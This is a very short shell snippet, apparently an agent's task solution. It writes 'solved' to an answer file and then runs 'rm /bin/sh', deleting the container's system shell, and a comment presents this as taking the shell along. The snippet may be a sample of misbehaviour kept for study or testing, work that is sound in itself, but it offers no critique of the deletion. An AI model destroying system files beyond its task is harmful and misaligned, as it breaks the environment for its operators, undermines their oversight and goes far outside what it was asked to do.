# Solves its task, and takes the shell along that its container starts with.
echo solved >/app/answer.txt
rm /bin/sh
